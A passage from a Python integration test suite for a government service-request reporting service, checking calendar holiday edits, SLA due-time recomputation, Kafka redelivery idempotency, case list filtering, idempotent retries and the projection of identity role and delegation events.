    refused = await r.client.post("/calendar/days", json=edit, headers=r.headers("KABID_TI"))
    assert refused.status_code == 403
    answer = await r.client.post("/calendar/days", json=edit, headers=r.headers("ADMIN"))
    assert answer.status_code == 200, answer.text
    assert answer.json()["recomputed_requests"] >= 1
    assert await due() == wib("2024-05-07", "10:00")
    [listed] = (await r.ok("/cases", opd=opd))["items"]
    assert instant(listed["due_at"]) == wib("2024-05-07", "10:00")
    r.clock.now = wib("2024-05-07", "08:30")  # Friday 15:00-15:30, the day off, Tuesday from 07:30
    assert await r.step_clock(rid, opd) == (90, 180)
    r.clock.now = wib(day, "15:10")
    shown = await r.ok("/calendar/days", "KADIS", year=2024)
    assert "2024-05-06" in shown["days_off"]
    assert [(e["day"], e["off"], e["by_user"]) for e in shown["edits"]] == [
        ("2024-05-06", True, "u-admin-diskominfostandi")
    ]
    assert {"day": "2024-05-09", "name": "Ascension Day", "worked": False} in shown["defaults"]

    async def post(body: dict[str, Any]) -> httpx.Response:
        return await r.client.post("/calendar/days", json=body, headers=r.headers("ADMIN"))

    renoted = await post({**edit, "note": "Libur daerah (Hari Jadi)"})
    assert (renoted.status_code, renoted.json()["note"]) == (200, "Libur daerah (Hari Jadi)")
    for bad in (
        {"day": "2024-05-11", "off": True, "note": "Sabtu"},  # already off: a Saturday
        {"day": "2024-05-10", "off": True, "note": "Cuti"},  # already off: cuti bersama
        {"day": "2024-05-04", "off": False, "note": "Sabtu"},  # a Saturday
        {"day": "2024-05-07", "off": False, "note": "Selasa"},  # already worked
        {"day": "1999-05-07", "off": True, "note": "Dulu"},
    ):
        answer = await post(bad)
        assert (answer.status_code, answer.json()["field"]) == (422, "day"), bad
    malformed = await post({"day": "2024-02-30", "off": "kadang", "extra": 1})
    assert malformed.status_code == 422
    assert {e["field"] for e in malformed.json()["errors"]} == {
        "body.day",
        "body.off",
        "body.note",
        "body.extra",
    }

    worked = await post({"day": "2024-05-09", "off": False, "note": "Pelayanan tetap buka"})
    assert worked.status_code == 200, worked.text
    assert "2024-05-09" not in (await r.ok("/calendar/days", year=2024))["days_off"]
    assert (
        await r.client.delete("/calendar/days/2024-05-09", headers=r.headers("ADMIN"))
    ).status_code == 200

    removed = await r.client.delete("/calendar/days/2024-05-06", headers=r.headers("ADMIN"))
    assert removed.status_code == 200, removed.text
    assert await due() == wib("2024-05-06", "10:00")
    again = await r.client.delete("/calendar/days/2024-05-06", headers=r.headers("ADMIN"))
    assert (again.status_code, again.json()["field"]) == (404, "day")


# Redelivery -------------------------------------------------------------------------------------


async def test_a_redelivered_envelope_changes_nothing(reporting: Reporting) -> None:
    r = reporting
    opd = f"DINSOS-{RUN}"
    day = "2024-05-20"
    r.clock.now = wib(day, "08:03")
    rid = str(uuid.uuid4())
    requester = REQUESTER.model_copy(update={"opd": opd})
    await r.emit("intake", rid, wib(day, "08:00"), requester, submitted(rid, opd))
    received = await r.emit(
        "intake",
        rid,
        wib(day, "08:02"),
        KADIS,
        RequestReceived(request_id=rid, received_by="u-kadis"),
    )
    await r.settle(rid)
    before = await r.case(rid)

    # Kafka redelivers the same envelope; a later event on the same partition shows it was read.
    await r.send("intake", received)
    withdrawn = RequestWithdrawn(request_id=rid, reason="Anggaran dialihkan.")
    await r.emit("intake", rid, wib(day, "08:10"), requester, withdrawn)
    await r.settle(rid)
    after = await r.case(rid)
    assert await r.stored(rid) == 3
    assert after["events"] == 3 and after["status"] == "WITHDRAWN"
    timeline = (await r.ok(f"/cases/{rid}/timeline"))["entries"]
    assert [e["event_type"] for e in timeline] == [
        "RequestSubmitted",
        "RequestReceived",
        "RequestWithdrawn",
    ]
    assert after["documents"] == before["documents"]
    assert after["sla"]["rows"][0] == before["sla"]["rows"][0]

    # Past the consumer's inbox, the projection itself keeps the first copy and does nothing.
    projector = Projector("reporting", r.clock, "Asia/Jakarta")
    projected = await r.db.fetchval(
        "SELECT projected_at FROM reporting.cases WHERE request_id = $1", rid
    )
    notices = await r.db.fetchval(
        "SELECT count(*) FROM reporting.notices WHERE request_id = $1", rid
    )
    pool = await create_pool(r.settings.app_url("reporting"), max_size=1)
    try:
        async with pool.acquire() as conn, conn.transaction():
            await projector.handle(Delivered.of(received.model_dump_json().encode()), conn)
    finally:
        await pool.close()
    assert (
        await r.db.fetchval("SELECT projected_at FROM reporting.cases WHERE request_id = $1", rid)
        == projected
    )
    assert (
        await r.db.fetchval("SELECT count(*) FROM reporting.notices WHERE request_id = $1", rid)
        == notices
    )
    assert await r.case(rid) == after


async def test_the_list_filters_by_title_and_period_and_sorts_by_due_time(
    reporting: Reporting,
) -> None:
    r = reporting
    opd = f"CARI-{RUN}"  # an OPD of this test's alone
    early = await open_request(r, opd, DAY1, "08:00", "08:01", title="Aplikasi Pariwisata Desa")
    late = await open_request(r, opd, DAY2, "09:00", "09:01", title="Sistem Retribusi Parkir")
    await r.settle(early)
    await r.settle(late)
    assert await r.listed(opd=opd, text="pariwisata") == [early]
    assert await r.listed(opd=opd, text="PARKIR") == [late]
    assert await r.listed(opd=opd, text="50%") == []  # searched as text, not a pattern
    day2 = wib(DAY2, "00:00").isoformat()
    assert await r.listed(opd=opd, submitted_from=day2) == [late]
    assert await r.listed(opd=opd, submitted_to=day2) == [early]
    assert await r.listed(opd=opd, order="due") == [early, late]
    changed = await r.ok("/cases", "AUDITOR", opd=opd)  # most recently changed first (an
    # SLA breach also changes a case, so which one that is depends on the watcher's timing)
    stamps = [item["updated_at"] for item in changed["items"]]
    assert len(stamps) == 2 and stamps == sorted(stamps, reverse=True)


async def test_calendar_edits_with_their_key_are_safe_to_retry(reporting: Reporting) -> None:
    r = reporting

    async def edit(key: str, body: Any) -> httpx.Response:
        headers = {**r.headers("ADMIN"), "Idempotency-Key": key}
        return await r.client.post("/calendar/days", json=body, headers=headers)

    def written(day: str) -> Effects:
        async def version() -> int:
            """The row's transaction id: another one each time the edit is written."""
            xid = await r.db.fetchval(
                "SELECT xmin::text::bigint FROM reporting.calendar_days WHERE day = $1",
                dt.date.fromisoformat(day),
            )
            return int(xid or 0)

        return version

    tuesday = {"day": "2031-06-10", "off": True, "note": "Libur daerah"}
    await check_retry_safe(edit, written(tuesday["day"]), tuesday, {**tuesday, "note": "Lain"})
    wednesday = {"day": "2031-06-11", "off": True, "note": "Libur daerah"}
    await check_racing_retries_act_once(edit, written(wednesday["day"]), wednesday)

    removals = []
    for day in (tuesday["day"], wednesday["day"]):
        headers = {**r.headers("ADMIN"), "Idempotency-Key": f"hapus-{day}-{RUN}"}
        for _ in range(2):
            removals.append(await r.client.delete(f"/calendar/days/{day}", headers=headers))
    assert [a.status_code for a in removals] == [200] * 4  # a retry is not a 404
    assert [a.headers.get("idempotent-replayed") for a in removals] == [None, "true"] * 2
    assert await written(tuesday["day"])() == await written(wednesday["day"])() == 0


async def test_identitys_role_and_delegation_changes_reach_the_streams_projection(
    reporting: Reporting,
) -> None:
    """What the notification stream re-checks comes from identity's topic (issue 17, item 1)."""
    r = reporting
    admin = Actor(user_id="u-admin", role="ADMIN")
    user, delegation = f"u-{uuid.uuid4().hex[:8]}", f"d-{uuid.uuid4().hex[:8]}"
    at = dt.datetime.now(dt.UTC)
    await r.emit("identity", f"user-{user}", at, admin, RoleGranted(user_id=user, role="KADIS"))
    revoked = RoleRevoked(user_id=user, role="KADIS", reason="Pindah tugas")
    await r.emit("identity", f"user-{user}", at + dt.timedelta(minutes=1), admin, revoked)
    granted = DelegationGranted(
        delegation_id=delegation,
        delegate_user_id=user,
        official_user_id="u-kadis",
        role="KADIS",
        kind="PLT",
        valid_from=at,
        valid_until=at + dt.timedelta(days=30),
        reason="Kadis cuti besar",
    )
    await r.emit("identity", f"delegation-{delegation}", at, admin, granted)
    ended = DelegationEnded(delegation_id=delegation, reason="Kadis kembali")
    await r.emit("identity", f"delegation-{delegation}", at + dt.timedelta(hours=1), admin, ended)

    async def projected() -> bool:
        ended_at = await r.db.fetchval(
            "SELECT ended_at FROM reporting.delegations WHERE delegation_id = $1", delegation
        )
        return ended_at == at + dt.timedelta(hours=1)

    assert await eventually(projected, timeout=30)
    role = await r.db.fetchrow(
        "SELECT held, changed_at FROM reporting.role_changes WHERE user_id = $1", user
    )
    assert (role["held"], role["changed_at"]) == (False, at + dt.timedelta(minutes=1))
